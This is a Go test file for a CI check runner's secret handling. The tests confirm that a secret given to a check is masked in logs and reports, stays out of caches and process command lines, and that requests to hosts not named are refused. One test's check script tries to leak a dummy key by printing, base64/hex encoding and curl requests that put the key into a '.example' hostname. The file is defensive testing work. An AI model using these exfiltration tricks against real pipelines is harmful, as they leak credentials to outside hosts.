package checkrun_test

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"prentice"
	"prentice/internal/adapter/checkrun"
	"prentice/internal/engine/check"
	"prentice/internal/engine/pipeline"
)

const hidden = "hunter2-correct-horse"

// given has a secret called deploy-key, and no other.
func given(_ context.Context, name string) (string, error) {
	if name != "deploy-key" {
		return "", prentice.Errorf(prentice.NotFound, "secret %s is not set", name)
	}
	return hidden, nil
}

func TestACheckIsGivenTheSecretsThatItNamesAndShowsNone(t *testing.T) {
	r := newRepository(t)
	r.secret = given
	var told strings.Builder
	r.desk.Tell = func(line string) { fmt.Fprintln(&told, line) }
	said := ""
	r.desk.Read = func(_ context.Context, _ *check.Tree, _ pipeline.Check, reports *os.Root) (pipeline.Said, error) {
		f, err := reports.Open("report.xml")
		if err != nil {
			return pipeline.Said{}, err
		}
		defer f.Close()
		all, err := io.ReadAll(f)
		said = string(all)
		return pipeline.Said{Says: said, Findings: []check.Finding{{Says: said}}}, err
	}
	r.has("a", "secrets: deploy-key\nnetwork: [named.example]\nreports: {junit: report.xml}\n", strings.Join([]string{
		`test "$DEPLOY_KEY" = "$(cat /run/secrets/deploy-key)"`, `test ${#DEPLOY_KEY} = 21`, // it is whole
		`cat /proc/*/cmdline | tr '\0' '\n' | grep -c '^hunter2' || true`,
		`echo "plain $DEPLOY_KEY"`, `printf %s "$DEPLOY_KEY" | base64`, `printf '%s' "x$DEPLOY_KEY" | base64`, `printf %s "$DEPLOY_KEY" | od -An -tx1`, `printf %s "$DEPLOY_KEY" | xxd -p || true`,
		`set -x; : "$DEPLOY_KEY"; set +x`, `env | grep DEPLOY`, `printf '%s' hunter2-; sleep 0.1; echo correct-horse`,
		`curl -s "http://$DEPLOY_KEY.example/" >/dev/null || true`, `curl -s "http://$(printf %s "$DEPLOY_KEY" | rev).example/" >/dev/null || true`, // by the name of a host
		`printf '<e>%s</e>' "$DEPLOY_KEY" >report.xml`, `echo "$DEPLOY_KEY" >left`, `exit 3`,
	}, "\n"))
	o := r.one("a")
	log, err := checkrun.Log(r.keep, "a")
	if err != nil || o.Truth != prentice.Fail || !strings.Contains(log.Text, "plain •••") || !strings.Contains(log.Text, "refused hosts that are not named, 2 times") || !strings.Contains(log.Text, "\n0\n") || said != "<e>•••</e>" {
		t.Fatalf("%+v %v %q\n%s", o, err, said, log.Text)
	}
	leaks := map[string]string{"it is plain": hidden, "base64": base64.StdEncoding.EncodeToString([]byte(hidden)), "base64 with a shift": "aHVudGVyMi1jb3JyZWN0", "in hexadecimal": hex.EncodeToString([]byte(hidden)), "od": "68 75 6e 74 65 72", "the other way round, as a host": "esroh-tcerroc-2retnuh"}
	everything := fmt.Sprintf("%+v", o) + told.String() + log.Text
	filepath.WalkDir(r.keep, func(path string, d fs.DirEntry, _ error) error {
		if text, err := os.ReadFile(path); err == nil {
			everything += path + string(text)
		}
		return nil
	})
	for how, text := range leaks {
		if strings.Contains(everything, text) {
			t.Errorf("it leaks: %s", how)
		}
	}
	if log.Left {
		t.Error("what it left is kept")
	}
	if _, err := r.desk.Enter(t.Context(), checkrun.Entry{Keep: r.keep, Check: "a", Argv: []string{"true"}}); prentice.KindOf(err) != prentice.NotFound {
		t.Error(err)
	}
}

func TestACheckThatDoesNotGetItsSecretIsUnknownAndNotPerformed(t *testing.T) {
	r := newRepository(t)
	r.has("none", "secrets: [deploy-key]\n", "echo performed")
	if o := r.one("none"); o.Truth != prentice.NotSeen || o.Reason != "it needs the secret deploy-key, and a check gets none here" {
		t.Errorf("%+v", o)
	}
	r.secret = given
	r.has("other", "secrets: [deploy-key, other]\n", "echo performed").has("plain", "", `test -z "$DEPLOY_KEY"; test ! -e /run/secrets`)
	by := r.judged(t.Context())
	if o := by["other"]; o.Truth != prentice.NotSeen || !strings.Contains(o.Reason, "it needs the secret other: secret other is not set") {
		t.Errorf("%+v", o)
	}
	if by["plain"].Truth != prentice.Pass || by["none"].Truth != prentice.Pass {
		t.Errorf("%+v", by)
	}
	if runs := checkrun.Runs(r.keep, "other"); len(runs) != 0 {
		t.Error("it was performed")
	}
}

func TestARunWithSecretsFillsNoCache(t *testing.T) {
	r := newRepository(t)
	r.secret, r.held = given, true
	r.has("a", "cache: [~/.tool]\nsecrets: deploy-key\n", `echo "$DEPLOY_KEY" >~/.tool/x`)
	if o := r.one("a"); o.Truth != prentice.Pass {
		t.Fatalf("%+v", o)
	}
	out, _ := exec.Command("grep", "-r", hidden, r.keep).CombinedOutput()
	if len(out) > 0 {
		t.Errorf("%s", out)
	}
}

func TestASecretIsOnNoCommandLineOfTheMachine(t *testing.T) {
	r := newRepository(t)
	r.secret = given
	r.has("a", "secrets: deploy-key\n", "sleep 1")
	done := make(chan check.Outcome)
	go func() { done <- r.one("a") }()
	for {
		select {
		case o := <-done:
			if o.Truth != prentice.Pass {
				t.Errorf("%+v", o)
			}
			return
		case <-time.After(20 * time.Millisecond):
		}
		lines, _ := filepath.Glob("/proc/[0-9]*/cmdline")
		for _, file := range lines {
			if text, _ := os.ReadFile(file); strings.Contains(string(text), hidden) {
				t.Fatalf("%s: %q", file, text)
			}
		}
	}
}
